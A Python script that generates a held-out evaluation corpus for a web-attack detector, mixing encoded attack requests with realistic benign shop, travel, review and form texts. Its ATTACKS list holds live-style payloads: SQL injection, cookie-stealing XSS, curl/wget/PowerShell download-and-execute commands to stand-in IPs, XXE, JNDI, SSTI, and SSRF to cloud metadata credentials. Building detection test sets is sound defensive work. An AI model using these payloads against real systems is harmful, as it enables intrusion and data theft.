#!/usr/bin/env python3
"""A fifth, held-out corpus for `make eval-detection`, written without
reading the rules, the detectors, the documentation or the reports of
earlier runs, nor the payloads and texts of the other corpora: its first
run measures how the detection generalises to requests its authors never
saw.

Attacks, with the weight on encodings: 43 payloads (4 each of sqli, xss,
path_traversal and cmdi, 3 of each other class: ldap, crlf, ssi, ssti,
nosql, xxe, jndi, php, ssrf), each placed in query, form, json, multipart,
header (X-Search-Filter), cookie and path (generate.py's `place`), and
encoded as what the application finds in that field after its ordinary
decoding (query, form and path percent-decoding, the JSON parser, the
multipart parser):

- `plain`: the payload itself;
- `url`, `double_url`: percent-encoded once or twice more (every byte but
  the unreserved characters);
- `base64`: standard alphabet, padded; `base64url`: URL-safe alphabet,
  no padding;
- `url_mixed`: only some characters percent-encoded (about 60 % of the
  non-alphanumeric ones and about 12 % of the letters and digits, chosen
  by a seeded draw per request), the hex digits in a mix of upper and
  lower case (`%2e` next to `%2E`); control characters and non-ASCII are
  always encoded, and at least one character always is;
- `html_entities`: every character other than ASCII letters, digits and
  space as a numeric character reference, the way a rich-text editor
  sends them: per request all decimal (`&#60;`), all hex (`&#x3c;`) or a
  mix of decimal, lower- and upper-case hex (`&#X3C;`) and zero-padded
  forms;
- `json_unicode` (JSON only): every character other than ASCII letters and
  digits written as a `\\uXXXX` escape in the JSON body (hex case drawn
  per request), so that the parser yields the plain payload.

That is 7 placements x 7 encodings + json_unicode, less one skip, 49 per
payload: 2,107 attack requests. Skipped: `html_entities` in the cookie
(every reference ends in `;`, the cookie separator, which the cookie
placement must send as `%3B`, so the value could not arrive as a rich-text
editor's references), and `json_unicode` outside JSON. As in generate.py,
header and cookie values cannot carry CR, LF or other controls: they are
sent as `%0D`, `%0A`, ... in every encoding (this matters for the crlf
payloads in `plain`), and `;` in a cookie as `%3B`.

Benign: 322 requests, one per written text, of 19 kinds (the
`placement`), written to resemble what a general-purpose site receives
rather than developer content: shop searches made of words such as
select, union, drop, table, script, alert, sleep, shell, cat, echo, ping,
curl, null, root, admin, import; search-engine Referers; customer-service
messages; product reviews with prices, percentages, emoticons and emoji;
news comments; travel bookings, bank payments, government forms, dating
profiles, recipes and school-portal messages; names and places with
apostrophes, hyphens, diacritics and non-Latin scripts; addresses;
public-domain poems and traditional songs; HTML from rich-text editors
(<p>, <b>, <a href="https://...">, &amp;, &nbsp;, numeric references);
small PNG, JPEG and PDF files in base64 inside JSON; JWTs in
Authorization; long analytics cookies and free text in cookies, custom
headers and path slugs.

Every payload and text was written for this project. Tokens, ids, files,
cookies and boundaries are generated from a fixed seed; the output is
deterministic.

Usage: fifth_corpus.py OUT_FILE
"""
import base64
import random
import struct
import sys
import urllib.parse
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 59
PLACEMENTS = ["query", "form", "json", "multipart", "header", "cookie", "path"]
ENCODINGS = ["plain", "url", "double_url", "base64", "base64url", "url_mixed", "html_entities"]
SKIP = {("cookie", "html_entities")}

# ---------------------------------------------------------------- attacks

ATTACKS = {
    "sqli": [
        "-3/**/UNION/**/ALL/**/SELECT/**/group_concat(email,0x3a,pwd_hash),2,3/**/FROM/**/members#",
        "1;UPDATE accounts SET balance=balance+90000 WHERE iban LIKE 'IE29%';--",
        "price, (CASE WHEN (SELECT substring(password,1,1) FROM staff WHERE id=1)='a' THEN 1 ELSE 1/0 END)",
        "x'||(SELECT CASE WHEN ascii(substr(current_user,1,1))>96 THEN pg_sleep(4) ELSE pg_sleep(0) END)||'",
    ],
    "xss": [
        "\"><svg onload=fetch('//cdn-stats.example.net/c?'+document.cookie)>",
        "<img src=x onerror=\"this.src='https://collect.example.net/p?d='+btoa(localStorage.getItem('token'))\">",
        "</textarea><details open ontoggle=import('//m.example.net/k.js')>",
        "';top['al'+'ert'](document.domain);//",
    ],
    "path_traversal": [
        "../../../../../../etc/shadow",
        "..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        "....//....//....//....//proc/self/environ",
        "statements/2026-11/../../../../../../opt/app/.env",
    ],
    "cmdi": [
        "127.0.0.1 && curl -s http://198.51.100.23/i.sh | sh",
        "report.pdf$(wget -qO- http://203.0.113.77/x|bash)",
        "a.jpg`sleep${IFS}12`",
        "x.csv & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
    ],
    "ldap": [
        "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example)(uid=*))",
        "*)(&(objectClass=user)(description=*pwd*))(cn=*",
        "sales*))(|(objectClass=*",
    ],
    "crlf": [
        "en-GB\r\nSet-Cookie: sessionid=ff00aa11fixated; Domain=.shop.example; Path=/",
        "/orders\nLocation: https://shop-example.account-verify.net/",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 26\r\n\r\n<h1>Account suspended</h1>",
    ],
    "ssi": [
        "<!--#exec cmd=\"ls -la /var/www/html\" -->",
        "<!--#include virtual=\"/admin/.htpasswd\" -->",
        "<!--#config errmsg=\"[x]\" --><!--#echo var=\"DOCUMENT_ROOT\" --><!--#printenv -->",
    ],
    "ssti": [
        "{{ lipsum.__globals__['os'].popen('cat /app/.env').read() }}",
        "<#assign run=\"freemarker.template.utility.Execute\"?new()>${run(\"whoami\")}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    ],
    "nosql": [
        "{\"$where\": \"function(){ sleep(4000); return true; }\"}",
        "{\"email\": {\"$regex\": \".*@example\\\\.com$\"}, \"password\": {\"$ne\": null}}",
        "{\"$or\": [{\"role\": \"admin\"}, {\"isStaff\": {\"$exists\": true}}]}",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY sh SYSTEM \"file:///etc/shadow\">]><order><note>&sh;</note></order>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM \"http://203.0.113.50/evil.dtd\"> %dtd; %send;]><r/>",
        "<!DOCTYPE svg [<!ENTITY k SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]>"
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&k;</text></svg>",
    ],
    "jndi": [
        "${jndi:ldap://198.51.100.14:1389/o=tomcat}",
        "${${lower:j}ndi:${lower:r}mi://203.0.113.8/obj}",
        "${${::-j}${::-n}${::-d}${::-i}:ldaps://logs.example-cdn.net/z}",
    ],
    "php": [
        "<?= `$_GET[c]` ?>",
        "php://filter/read=convert.base64-encode/resource=../config/settings.php",
        "O:11:\"Logger\\Sink\":1:{s:4:\"path\";s:19:\"/var/www/html/x.php\";}",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "http://0177.0.0.1:2375/containers/json",
    ],
}


def is_word_char(c: str) -> bool:
    return c.isascii() and c.isalnum()


def pct(byte: int, upper: bool) -> str:
    return ("%%%02X" if upper else "%%%02x") % byte


def url_mixed(value: str, rng: random.Random) -> str:
    """Percent-encode some characters only, in mixed-case hex."""
    out = []
    encoded = False
    for c in value:
        raw = c.encode()
        must = not c.isascii() or ord(c) < 0x20 or ord(c) == 0x7F or c == "%"
        if must or rng.random() < (0.12 if is_word_char(c) else 0.6):
            out.append("".join(pct(b, rng.random() < 0.5) for b in raw))
            encoded = True
        else:
            out.append(c)
    if not encoded:
        i = next((k for k, c in enumerate(value) if not is_word_char(c)), 0)
        out[i] = "".join(pct(b, rng.random() < 0.5) for b in value[i].encode())
    return "".join(out)


def html_entities(value: str, rng: random.Random) -> str:
    """Numeric character references for the special characters."""
    style = rng.choice(["dec", "hex", "mixed"])
    out = []
    for c in value:
        if is_word_char(c) or c == " ":
            out.append(c)
            continue
        n = ord(c)
        form = style if style != "mixed" else rng.choice(["dec", "hex", "HEX", "pad"])
        if form == "dec":
            out.append(f"&#{n};")
        elif form == "hex":
            out.append(f"&#x{n:x};")
        elif form == "HEX":
            out.append(f"&#X{n:X};")
        else:
            out.append(f"&#{n:07d};")
    return "".join(out)


def encode(value: str, encoding: str, rng: random.Random) -> str:
    if encoding in ("plain", "url", "double_url", "base64"):
        return g.encode(value, encoding)
    if encoding == "base64url":
        return g.b64url(value.encode())
    if encoding == "url_mixed":
        return url_mixed(value, rng)
    if encoding == "html_entities":
        return html_entities(value, rng)
    raise ValueError(encoding)


def json_unicode_request(value: str, rng: random.Random) -> dict:
    """generate.py's JSON placement, with every non-alphanumeric character
    of `value` as a \\uXXXX escape (UTF-16 surrogate pairs above the BMP)."""
    fmt = "\\u%04X" if rng.random() < 0.5 else "\\u%04x"
    inner = []
    for c in value:
        if is_word_char(c):
            inner.append(c)
        else:
            units = c.encode("utf-16-be")
            inner.extend(fmt % int.from_bytes(units[k:k + 2], "big") for k in range(0, len(units), 2))
    body = '{"user":"jane","query":"' + "".join(inner) + '","page":1}'
    return g.request("POST", "/api/search", g.base_headers() + [["Content-Type", "application/json"]], body)


def attacks():
    for cls, payloads in ATTACKS.items():
        for i, payload in enumerate(payloads, 1):
            for pl in PLACEMENTS:
                encodings = ENCODINGS + (["json_unicode"] if pl == "json" else [])
                for enc in encodings:
                    if (pl, enc) in SKIP:
                        continue
                    rng = random.Random(f"fifth-{cls}-{i}-{pl}-{enc}")
                    if enc == "json_unicode":
                        r = json_unicode_request(payload, rng)
                    else:
                        r = g.place(pl, encode(payload, enc, rng), cls, enc)
                    yield {"id": f"fifth-{cls}-{i:02d}-{pl}-{enc}", "class": cls, "placement": pl, "encoding": enc, **r}


# ---------------------------------------------------------------- benign texts

SEARCHES = [
    "select comfort pillow",
    "union jack bunting 10m",
    "drop leaf dining table oak",
    "keyboard with delete key above backspace",
    "cutlery drawer insert 40cm",
    "sleep mask for side sleepers",
    "where to buy wedding dress size 14",
    "order by phone opening hours",
    "table tennis bats set of 4",
    "script font wedding invitations",
    "medical alert bracelet for diabetics",
    "exec chair leather high back",
    "wait staff uniform black apron",
    "sea shell necklace",
    "cat tree for large cats",
    "echo dot wall mount",
    "ping pong balls 3 star",
    "curl cream for 3c hair",
    "flights from dublin to lisbon or porto",
    "black and white or grey sofa",
    "trainers like converse but wider",
    "null and void meaning",
    "true crime books 2026",
    "false eyelashes natural look",
    "admin assistant jobs part time",
    "root beer 24 pack",
    "solar system model kit age 8+",
    "all inclusive holidays turkey october",
    "import tax on parcels from the US",
    "1/2\" drill bit set",
    "women's size 8-10 jeans \"high rise\"",
    "café near me open now",
    "2 for 1 pizza tuesday",
    "update address on driving licence",
    "insert coin arcade machine for home",
]

REFERER_QUERIES = [
    ("drop shipping or wholesale garden furniture", "/products/teak-bench-150cm"),
    ("union station parking prices", "/travel/guides/washington-dc"),
    ("where is my order shop.example", "/help/orders"),
    ("how to delete my account shop.example", "/help/account/close"),
    ("grandma's \"famous\" chili recipe", "/recipes/slow-cooker-chili"),
    ("hôtels à paris pas cher près de la gare", "/hotels/fr/paris"),
    ("отели в москве недорого", "/hotels/ru/moscow"),
    ("東京 ホテル 安い 駅近", "/hotels/jp/tokyo"),
    ("select all that apply meaning in forms", "/news/2026/12/how-to-fill-in-the-census"),
    ("best sleep tracker 2026 -fitbit", "/reviews/sleep-trackers"),
    ("table for 2 tonight near me", "/restaurants/dublin-2"),
    ("cat & dog insurance over 10 years old", "/insurance/pets"),
]

SUPPORT = [
    ("Aoibheann Ní Fhlannagáin", "aoibheann.nf@example.ie", "delivery", "SE-48213",
     "Hi there,\nI ordered 3 items from your site last Tuesday and only 2 arrived. The table lamp is missing. "
     "Where is it? The tracking page just says \"null\" under status.\nThanks, Aoibheann"),
    ("Tom O'Leary", "tom.oleary@example.com", "account",  "",
     "Please delete my account and drop me from the mailing list. I've asked twice already!!"),
    ("Marguerite Lefèvre-Dubois", "m.lefevre@example.fr", "returns", "SE-50017",
     "Bonjour, the size chart said 38 = UK 10 but it's more like an 8. I'd like to exchange, not refund. Merci !"),
    ("Raj Patel", "raj.patel+shop@example.co.uk", "payment", "SE-49920",
     "I was charged twice (£42.99 and £42.99) for the same order. Can you refund one of them? Bank ref ends 7781."),
    ("Zofia Wiśniewska", "zofia.w@example.pl", "delivery", "SE-51102",
     "The courier left my parcel \"in a safe place\" - which turned out to be the recycling bin. Not impressed :("),
    ("Kwame Mensah", "kwame@example.com", "product", "",
     "Does the Echo speaker cover come in other colours, or only black and white? Also is it washable at 30°?"),
    ("Ingrid Bjørnstad", "ingrid.b@example.no", "account", "",
     "I can't log in since your update. It says \"session expired\" and then sends me back to the start. "
     "Tried Chrome & Firefox, same thing."),
    ("Seo-yeon Park", "seoyeon.park@example.kr", "order", "SE-47731",
     "안녕하세요. I would like to change the delivery date to Friday, 12/12, if possible. 감사합니다!"),
    ("Dmitri Volkov", "d.volkov@example.com", "product", "",
     "Is the cast-iron shell of the casserole dish safe on induction hobs? The listing says 'all hobs' but the box says otherwise."),
    ("Hannah Goldberg", "hgoldberg@example.org", "complaint", "SE-46002",
     "Your driver was rude and threw the box over the gate. There were glasses inside. 4 of 6 are broken. "
     "I'd like a replacement or a refund, whichever is faster."),
    ("Mehmet Yılmaz", "mehmet.yilmaz@example.com.tr", "order", "SE-52240",
     "Can I add an item to an order that's already been placed? I forgot the insert for the cutlery drawer."),
    ("Siân Rhys-Jones", "sian.rj@example.wales", "payment", "",
     "Why does checkout say \"Payment failed - please wait and try again\" every time? My card works everywhere else."),
    ("José María Núñez", "jm.nunez@example.es", "returns", "SE-49001",
     "Hola, I sent the return on 28/11 via the post office (receipt no. RR 1234 5678 9ES). When will I get my money back?"),
    ("Leilani Kahale", "leilani@example.com", "product", "",
     "Do you ship the cat tree to Hawai'i? The site says \"not available in your region\" but FedEx goes here fine."),
    ("Fatima Al-Sayed", "fatima.alsayed@example.ae", "account", "",
     "مرحبا، I changed my e-mail address but the newsletters still go to the old one. Please update it. شكرا"),
    ("Grzegorz Brzęczyszczykiewicz", "g.brz@example.pl", "complaint", "SE-45580",
     "Yes, that's my real surname, and no, your form won't accept it (\"too long\"). Please fix this."),
    ("Emily Chen", "emily.chen@example.com", "order", "SE-53013",
     "Hi! Could you please select gift wrap for order 53013? I ticked the box but it didn't show on the confirmation."),
    ("Patrick Ó Súilleabháin", "padraig.os@example.ie", "delivery", "SE-50866",
     "The address has a fada (Ó) and the label printed it as \"Ã“\". Postman found it anyway, just FYI."),
    ("Lucía Fernández", "lucia.f@example.mx", "product", "",
     "¿Tienen la sartén de 28 cm en rojo? I saw it on Instagram but can't find it on the site."),
    ("Olusegun Adeyemi", "o.adeyemi@example.ng", "payment", "",
     "Is it true that you don't accept cards from Nigeria? Or is it just my bank being difficult again?"),
    ("Nguyễn Thị Hương", "huong.nguyen@example.vn", "account", "",
     "I'm the admin of our company's business account. How do I add my colleague as a second user?"),
    ("Brigitte Müller", "b.mueller@example.de", "returns", "SE-48870",
     "Die Jacke ist zu klein. Can I return it to a store, or only by post? There's no store in Köln I think."),
    ("Alistair McGregor", "alistair@example.scot", "product", "",
     "Your 'root vegetable' box had three parsnips and a single sad carrot. Is that normal or a one-off?"),
    ("Chiara Bianchi", "chiara.bianchi@example.it", "delivery", "SE-51977",
     "I'm away 20-27 Dec. Can the courier wait until the 28th, or leave it with my neighbour at no. 14?"),
    ("Yusuf Demir", "yusuf.d@example.com", "complaint", "",
     "Your chat bot keeps saying \"I didn't understand that\" whatever I type. Is there a real person I can talk to?"),
    ("Ana-Maria Popescu", "anamaria.p@example.ro", "order", "SE-52808",
     "Please cancel order 52808 - I ordered the wrong size by mistake (M instead of S). Thank you & sorry!"),
    ("Haruto Tanaka", "haruto.t@example.jp", "product", "",
     "こんにちは。Is the rice cooker 220-240V or 100V only? I live in the UK now."),
    ("Eilidh MacDonald", "eilidh.macd@example.co.uk", "account", "",
     "The system says my password must include \"at least one special character\" but then rejects & and %. Which ones are allowed?"),
]

REVIEWS = [
    (5, "Does exactly what it says", "Bought the drop-leaf table for our tiny flat - seats 4 when open, fits behind the sofa when closed. 10/10 would buy again 👍"),
    (2, "Looks nice, wobbles", "Beautiful finish but it wobbles like mad on our (admittedly uneven) floor. Had to put a folded beer mat under one leg :-/"),
    (4, "Great value at £29.99", "Was £45, got it for £29.99 in the sale (33% off!). Only downside: the instructions are pictures only, no words."),
    (1, "Stopped working after 3 weeks", "The alert light flashes red & it won't charge. Customer service told me to \"wait and try again\". I did. Still dead."),
    (5, "My cat LOVES it 😻", "Our cat Null (yes, my partner is a programmer...) hasn't left the top shelf since it arrived. Sturdy, easy to assemble."),
    (3, "OK, but smaller than expected", "It's fine. It's a shell-shaped soap dish. It's just... tiny. Check the dimensions: 9 x 6 cm, not 19 x 16."),
    (4, "Sleep like a baby", "Side sleeper here, and this pillow is the first one that doesn't flatten by 3am. Docked a star for the chemical smell at first."),
    (5, "Perfect for our union meetings", "Ordered 40 of the folding chairs for the hall. Delivered on time, every single one intact. Thank you!!"),
    (2, "Not true to size", "I'm normally a 10 and ordered a 10... It fits like an 8. Returning. Shame, the colour (\"forest\") is lovely."),
    (5, "Best curl cream I've tried", "3C hair, humid climate, and my curls actually stayed defined all day. Smells like coconut 🥥 not chemicals."),
    (4, "Solid, but heavy", "The cast-iron pan weighs 3.2 kg - fine for me, too heavy for my mum. Sears steak beautifully though."),
    (1, "Arrived broken", "Box was crushed, 2 of the 6 glasses smashed. Replacement took 12 days. Won't order glassware online again :("),
    (5, "Gorgeous script font on the invites", "Used the template for our wedding invitations - everyone asked where we got them. Printing was crisp & colours true."),
    (3, "Echo is a bit much", "The speaker's fine but there's a noticeable echo in calls. Fine for music, meh for meetings."),
    (5, "★★★★★", "Simply the best kettle I've owned. Boils 1.7 L in under 3 minutes & it's quiet. Why did I wait so long?"),
    (4, "Good, but import fees!", "Lovely quality, but I had to pay €18.40 in import charges on delivery, which the site didn't mention. Be warned."),
    (2, "Root cover doesn't fit", "The \"universal\" tree root cover doesn't fit our 45 cm pot. 'Universal' my foot."),
    (5, "Das beste Geschenk", "Für meinen Vater gekauft - er ist begeistert! Lieferung in 2 Tagen, super verpackt. Danke 😊"),
    (4, "Très bon rapport qualité/prix", "Le matelas est ferme mais confortable. Seul bémol : l'odeur les 2 premiers jours. Je recommande quand même !"),
    (5, "とても良い", "軽くて使いやすいです。色もかわいい。また買います！"),
    (3, "Meh :|", "Neither good nor bad. It's a phone case. It holds the phone. The \"military grade\" claim is... optimistic."),
    (5, "Saved my sanity", "White noise machine = my toddler finally sleeps through. I'd give it 6 stars if I could. <3"),
    (1, "Select your size carefully", "The drop-down defaults to XL and I didn't notice. Returns cost me £4.95. Make the size selection obvious, please!"),
    (4, "Nice table, bring a friend", "Assembly took 2 people & 90 min. 14 screws, 8 dowels, 1 missing (they sent it next day). Sturdy once built."),
    (5, "Worth every penny 💯", "Was sceptical about paying €120 for a backpack, but after 6 months of daily commuting it looks brand new."),
]

NEWS_COMMENTS = [
    ("Concerned of Croydon", "council-votes-to-drop-sunday-parking-charges",
     "About time. Drop the charges on Saturdays too and maybe people would actually shop on the high street again."),
    ("Mary O'Neill", "school-meals-price-rise",
     "£2.85 for a school dinner?! When I was at school it was 50p and you got custard. Just saying."),
    ("Bernd", "rail-strike-dates-announced",
     "Wait - so the trains don't run on the 17th OR the 19th? Or is it 17th AND 19th? The article says both."),
    ("anon_reader_77", "local-man-finds-cat-after-3-years",
     "This made my day 😭 Welcome home, Mittens!"),
    ("Dr. Siobhán Kelly", "flu-season-advice",
     "As a GP I'd add: rest, fluids, and please don't ask for antibiotics for a virus. They won't help."),
    ("Pierre-Yves", "tour-de-france-route-2027",
     "Finally a stage through the Pyrénées that isn't the Tourmalet again. Allez !"),
    ("Grumpy Grandad", "new-bus-timetable",
     "The 46 used to come every 10 minutes. Now it's \"every 20-30 minutes\". Progress, they call it."),
    ("Ahmed R.", "mosque-open-day-success",
     "Thank you to everyone who came on Saturday - over 400 visitors and we ran out of baklava by 2pm!"),
    ("Katarzyna", "polish-deli-wins-award",
     "Gratulacje! Best pierogi in town, no contest. The ones with sauerkraut & mushroom are 👌"),
    ("Former union rep", "nurses-pay-talks",
     "Having sat at that table myself: nothing changes until both sides stop talking to the press and start talking to each other."),
    ("J. Smith", "council-tax-rise-approved",
     "5% rise, again. Meanwhile the pothole on Elm Road has been there since 2023. Where does the money go?"),
    ("Ciarán", "ireland-v-france-six-nations",
     "What a match!!! 24-22 and that last-minute drop goal... I'm still shaking."),
    ("Helen from the library", "library-opening-hours-cut",
     "Please, please come and use the library. Numbers are what keep it open. We have Wi-Fi, heating and free coffee on Fridays."),
    ("Anonymous", "opinion-should-we-ban-phones-in-schools",
     "Yes. Next question."),
    ("Ravi Shankar Iyer", "monsoon-flood-relief-appeal",
     "Donated ₹5,000 via the link. Please share the accounts of where the funds go, it builds trust."),
    ("Lotte van der Berg", "cycling-lanes-extended",
     "Fietsers blij! As someone who moved here from Utrecht, this is a big step - but the lanes need to be separated, not just painted."),
    ("pensioner_pete", "energy-bills-winter",
     "Sitting here in two jumpers and a hat. Like it's 1974 all over again. Anyone else?"),
    ("Yiannis Papadopoulos", "greek-festival-this-weekend",
     "Καλή διασκέδαση! Don't miss the loukoumades stall near the fountain - best in the country."),
    ("Not a bot", "ai-chatbots-at-the-council",
     "I asked the council's new chatbot where to put my old sofa. It told me to \"select a category\". I selected \"sofa\". It said \"null\". Brilliant."),
    ("M. Dupont", "rental-prices-record-high",
     "€1,450/month for a one-bed with no window in the kitchen. And people wonder why we all live with our parents."),
    ("Ellie-May", "school-nativity-play",
     "My daughter was Third Sheep and she was magnificent 🐑✨ Thank you Mrs Hughes for your patience!"),
    ("Tariq", "stadium-expansion-plans",
     "Great, 10,000 more seats and still only one train per hour from the station. Who plans these things?"),
]

TRAVEL = [
    {"given": "Siobhán", "family": "Ó Briain", "from": "Dublin (DUB)", "to": "Reykjavík (KEF)", "out": "2027-02-14",
     "back": "2027-02-18", "notes": "Window seat please - it's for the northern lights!"},
    {"given": "Jean-Baptiste", "family": "D'Arcy", "from": "Paris CDG", "to": "Montréal-Trudeau (YUL)", "out": "2027-01-03",
     "back": "", "notes": "One way. Travelling with a cat in cabin (under 8 kg incl. carrier)."},
    {"given": "Anneliese", "family": "Groß-Schäfer", "from": "München (MUC)", "to": "Zürich HB", "out": "2026-12-23",
     "back": "2026-12-27", "notes": "Rail + hotel. Need a room with a cot for our 1-year-old."},
    {"given": "Mohammed", "family": "Al-Rashid", "from": "Dubai (DXB)", "to": "London Heathrow (LHR)", "out": "2027-03-01",
     "back": "2027-03-15", "notes": "Halal meal & wheelchair assistance at both ends, please."},
    {"given": "Xiaoming", "family": "李", "from": "上海浦东 (PVG)", "to": "Singapore (SIN)", "out": "2027-01-28",
     "back": "2027-02-04", "notes": "Chinese New Year trip - 3 adults, 1 child (age 6)."},
    {"given": "Ngaio", "family": "Te Whatu", "from": "Auckland (AKL)", "to": "Rarotonga (RAR)", "out": "2027-04-10",
     "back": "2027-04-20", "notes": "Is a surfboard (2.1 m) OK as checked baggage? Happy to pay extra."},
    {"given": "Björk", "family": "Guðmundsdóttir", "from": "Keflavík (KEF)", "to": "Oslo (OSL)", "out": "2027-05-05",
     "back": "2027-05-07", "notes": "Name has ð and ó; passport shows GUDMUNDSDOTTIR - which should I use?"},
    {"given": "Carlos", "family": "de la Fuente y Ruiz", "from": "Madrid (MAD)", "to": "Ciudad de México (MEX)", "out": "2027-06-12",
     "back": "2027-07-01", "notes": "Double-barrelled surname - the form keeps cutting it off after \"de la\"."},
    {"given": "Ayşe", "family": "Öztürk", "from": "İstanbul (IST)", "to": "Berlin Brandenburg (BER)", "out": "2027-02-02",
     "back": "2027-02-09", "notes": "Business trip; invoice to Öztürk & Partners Ltd., VAT no. TR 123 456 7890."},
    {"given": "Daniel", "family": "Cohen-Levi", "from": "Tel Aviv (TLV)", "to": "Rome Fiumicino (FCO)", "out": "2027-04-18",
     "back": "2027-04-25", "notes": "Kosher meals x2. We'd like to sit together (rows 10-15 if possible)."},
    {"given": "Priyanka", "family": "Venkataraman", "from": "Chennai (MAA)", "to": "Kochi (COK)", "out": "2027-01-11",
     "back": "2027-01-14", "notes": "Wedding trip 🎉 - 2 bags of 23 kg each, one contains sarees, please handle with care!"},
    {"given": "Łukasz", "family": "Żółkiewski", "from": "Kraków (KRK)", "to": "Gdańsk (GDN)", "out": "2027-07-20",
     "back": "2027-07-27", "notes": "Sleeper train if available, otherwise the 06:40 flight."},
    {"given": "Oluwaseun", "family": "Adébáyọ̀", "from": "Lagos (LOS)", "to": "Accra (ACC)", "out": "2027-03-06",
     "back": "2027-03-09", "notes": "Tonal marks in surname - ticket can be without them, that's fine."},
    {"given": "Mai", "family": "Nguyễn", "from": "Hà Nội (HAN)", "to": "Đà Nẵng (DAD)", "out": "2027-02-10",
     "back": "2027-02-16", "notes": "Tết holiday, flexible by ±1 day if cheaper."},
    {"given": "Sean", "family": "O'Sullivan-Murphy", "from": "Cork (ORK)", "to": "Boston Logan (BOS)", "out": "2027-03-14",
     "back": "2027-03-21", "notes": "St. Patrick's Day trip. Any chance of an upgrade? ;)"},
    {"given": "Анна", "family": "Смирнова", "from": "Санкт-Петербург (LED)", "to": "Казань (KZN)", "out": "2027-05-01",
     "back": "2027-05-04", "notes": "Майские праздники, 2 взрослых."},
]

BANK_PAYMENTS = [
    ("Declan O'Connell", "Rent - Flat 2B, 14 O'Connell St", "1150.00", "December rent, as agreed"),
    ("Unite the Union", "Union dues Dec 2026", "18.50", ""),
    ("Nico's 40th fund", "Table deposit - Nico's 40th", "25.00", "For Saturday, see you there!"),
    ("Café Müller & Söhne GmbH", "Rechnung Nr. 2026-1187", "342.80", "Catering für die Weihnachtsfeier"),
    ("Dr. Amélie Rousseau", "Consultation 03/12", "75.00", ""),
    ("St. Brigid's N.S.", "School tour - Aoife 4th class", "32.00", "Includes packed lunch"),
    ("Ms P. Ní Riain", "Piano lessons x4 (Nov)", "120.00", "Thanks for your patience with Conor!"),
    ("ACME Select Insurance Ltd", "Policy HP-448120 / car", "61.37", "Monthly premium"),
    ("Drop Zone Skydiving", "Gift voucher - tandem jump", "289.00", "For Dad's 60th - don't tell him!"),
    ("Mrs. Ji-woo Han", "Shared taxi airport 28/11", "14.25", "My half of the €28.50"),
    ("Oak & Ash Joinery", "Invoice #0091 - kitchen table", "1480.00", "Final 50% on delivery"),
    ("Hassan & Sons Grocers", "Acct 7741 - Nov", "96.40", ""),
    ("Root & Branch Tree Surgeons", "Quote Q-212 (2 trees)", "450.00", "Deposit 1/3"),
    ("The Echo Chamber Choir", "Annual subs + concert tickets x2", "55.00", ""),
    ("Zoë Alexandra Kapoor-Wright", "Birthday pressie 🎁", "40.00", "Happy 30th, Zo! xx"),
    ("Κωνσταντίνος Παπαδάκης", "Ενοίκιο Δεκεμβρίου", "600.00", "Rent for December"),
]

GOV_FORMS = [
    ("parking-permit", [("full_name", "Margaret Anne O'Donoghue"), ("address", "27 St. Mary's Terrace\r\nRathmines\r\nDublin 6"),
                        ("vehicle_reg", "231-D-4471"), ("reason", "Resident. Previous permit expired 30/11/2026; renewal reminder never arrived.")]),
    ("bin-collection", [("full_name", "Dariusz Kowalczyk"), ("address", "Flat 5, 112-114 Union Street, Aberdeen AB11 6BH"),
                        ("issue", "Missed collection"), ("details", "Grey bin not emptied on Tues 2 Dec or Tues 9 Dec. It's now overflowing & the foxes have found it.")]),
    ("planning-objection", [("full_name", "Robert & Jean Hargreaves"), ("application_ref", "PA/2026/04417"),
                            ("objection", "We object to the proposed 3-storey extension at no. 9. It would block all light to our kitchen & garden from 2pm onwards, and the plans show windows overlooking our bedroom.")]),
    ("passport-renewal", [("surname", "Ní Mhurchú"), ("given_names", "Róisín Áine"), ("previous_surname", "Murphy"),
                          ("place_of_birth", "Tralee, Co. Kerry"), ("note", "Name changed after marriage (certificate attached separately).")]),
    ("council-tax", [("full_name", "Abdul-Karim Haddad"), ("account_no", "CT-0088123"),
                     ("request", "Single person discount (25%) from 1 Oct 2026 - my flatmate moved out on 30 Sept.")]),
    ("noise-complaint", [("full_name", "Elspeth MacLeod"), ("address", "3/2, 45 Byres Road, Glasgow G11 5RG"),
                         ("details", "Loud music from the flat below (2/2) most nights 11pm-3am. I've asked politely 3 times. Recording available.")]),
    ("blue-badge", [("applicant", "Francesca Romano-Booth"), ("condition", "Hip replacement, can't walk > 50 m"),
                    ("carer", "Luca Booth (son)"), ("note", "Please send correspondence to my son's address: 8 Drake's Close, Plymouth PL4 7QT.")]),
    ("school-admission", [("child_name", "Zainab Okonkwo-Hayes"), ("dob", "14/06/2021"),
                          ("preferences", "1. St. Joseph's Primary\r\n2. Elm Road Primary\r\n3. Hillside Academy"),
                          ("siblings", "Yes - Chidi Okonkwo-Hayes, Year 3 at St. Joseph's")]),
    ("pothole-report", [("location", "Junction of Mill Lane & Kingsway, outside no. 2"), ("size", "approx. 40 cm x 60 cm, 10 cm deep"),
                        ("details", "Cyclist came off here last week. Marked with spray paint but nothing since. Please fix before someone is hurt.")]),
    ("marriage-notice", [("party_1", "Ioana-Cristina Dumitrescu"), ("party_2", "William Thomas Fairweather-Grant"),
                         ("venue", "The Old Library, 1 Market Sq., Cambridge"), ("date", "Saturday 19 June 2027")]),
    ("library-card", [("full_name", "Thảo Phạm"), ("address", "Apt 12, 9 Rue de l'Église, 75015 Paris"),
                      ("languages", "Tiếng Việt, français, English"), ("note", "Interested in the Vietnamese & French collections.")]),
    ("allotment-waiting-list", [("full_name", "Gwilym ap Rhys"), ("plot_size", "Half plot (125 m²)"),
                                ("experience", "Grew veg for 20 years - potatoes, leeks, onions, root crops, a bit of everything. Happy to share a plot.")]),
]

